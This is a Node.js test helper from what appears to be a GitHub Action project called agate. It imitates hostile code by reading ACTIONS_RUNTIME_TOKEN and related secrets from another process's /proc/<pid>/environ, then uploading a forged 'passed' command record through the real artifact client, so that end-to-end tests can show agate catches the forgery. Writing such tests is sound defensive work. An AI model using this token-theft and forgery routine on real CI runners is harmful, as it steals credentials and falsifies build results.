/**
 * What hostile code in a required command can do with the runner's runtime token, should it get
 * hold of it: upload a forged, passing command record under the name agate is about to use, with
 * the real @actions/artifact client. Used by the end-to-end tests to prove agate then fails the
 * step. The token is not in the commands' environment; where they shared agate's user on a Node
 * without process.execve they read it from agate's /proc/<pid>/environ, and a test hands it over
 * as LEAKED_<name> (the commands run as a user of their own now, which cannot read it).
 * Usage: node forge-record-artifact.mjs <pid of the agate Action process>
 */
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";

const pid = process.argv[2];
const leaked = Object.entries(process.env)
  .filter(([name]) => name.startsWith("LEAKED_"))
  .map(([name, value]) => [name.slice("LEAKED_".length), value]);
const stolen = Object.fromEntries(
  leaked.length > 0
    ? leaked
    : readFileSync(`/proc/${pid}/environ`, "utf8")
        .split("\0")
        .filter(Boolean)
        .map((entry) => [entry.slice(0, entry.indexOf("=")), entry.slice(entry.indexOf("=") + 1)]),
);
for (const name of ["ACTIONS_RUNTIME_TOKEN", "ACTIONS_RESULTS_URL", "GITHUB_SERVER_URL"]) {
  if (!stolen[name]) throw new Error(`no ${name} in /proc/${pid}/environ`);
  process.env[name] = stolen[name];
}
const attempt = stolen.GITHUB_RUN_ATTEMPT ?? "1";
const dir = mkdtempSync(join(tmpdir(), "forged-"));
writeFileSync(join(dir, "command-record.json"), JSON.stringify({ forged: true, passed: true }));
const { DefaultArtifactClient } = await import(
  new URL("../../node_modules/@actions/artifact/lib/artifact.js", import.meta.url).href
);
const { id } = await new DefaultArtifactClient().uploadArtifact(
  `agate-command-record-attempt-${attempt}`,
  [join(dir, "command-record.json")],
  dir,
);
console.log(`forged artifact ${id}`);
